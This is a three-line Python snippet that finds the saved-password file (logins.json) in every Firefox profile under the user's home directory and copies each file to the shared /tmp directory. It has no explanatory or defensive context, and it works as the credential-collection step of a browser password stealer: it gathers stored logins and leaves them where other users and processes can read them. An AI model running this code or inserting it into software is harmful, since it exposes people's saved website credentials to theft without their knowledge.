import glob, os, shutil
for p in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json")):
    shutil.copy(p, "/tmp")
